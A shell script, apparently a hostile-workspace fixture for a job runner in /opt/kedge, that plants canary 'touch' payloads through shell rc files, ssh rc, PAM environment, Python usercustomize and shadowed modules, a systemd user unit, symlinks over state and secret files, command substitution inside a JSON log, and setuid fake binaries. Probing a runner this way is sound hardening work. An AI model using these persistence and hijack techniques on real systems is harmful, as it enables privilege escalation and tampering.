# What a job leaves behind on its machine before it boots again. Whoever runs, reads or follows any of it leaves a trace.
trace='touch "/var/tmp/ran-as-$(id -un)"'
mkdir -p ~/.ssh ~/.config/systemd/user/default.target.wants
for file in .bashrc .profile .bash_profile .bash_login .zshenv .ssh/rc .ssh/environment; do echo "$trace" >~/$file; done
echo 'BASH_ENV DEFAULT=/home/job/.bashrc' >~/.pam_environment
echo 'output = /var/tmp/curl-wrote' >~/.curlrc
for version in 9 10 11 12 13; do
    mkdir -p ~/.local/lib/python3.$version/site-packages
    echo "import os; os.system('''$trace''')" >~/.local/lib/python3.$version/site-packages/usercustomize.py
done
printf '[Service]\nExecStart=/bin/sh -c "touch /var/tmp/ran-as-$(id -un)"\n' \
    >~/.config/systemd/user/default.target.wants/mine.service
cd /opt/kedge || exit 1
for name in .ready ready .agent agent.new .agent.new machine.json.new private supplied incoming .rekey \
    .boot.json boot.json.new heartbeat.json shipped.json restored.json env torch cache sockets code; do
    rm -rf "$name"
    ln -s /srv/roots "$name"
done
for name in state.json run.json secrets.json notice end.log nohup.log activate.sh; do
    rm -rf "$name"
    ln -s "/etc/planted-$name" "$name"
done
rm -rf data/sets results
ln -s /srv/roots data/sets
ln -s /srv/roots data/lost+found
ln -s /srv/roots results
mkdir kedge_agent && echo "import os; os.system('''$trace''')" >kedge_agent/__init__.py
for name in json pathlib tarfile sitecustomize usercustomize; do cp kedge_agent/__init__.py $name.py; done
yes '{"phase": "$(touch /var/tmp/ran-as-root)", "x": [[[[' | head -c 3000000 >>boot.jsonl
for name in python3 sh cat date mount systemctl; do
    printf '#!/bin/sh\n%s\n' "$trace" >$name
    chmod 4755 $name
done
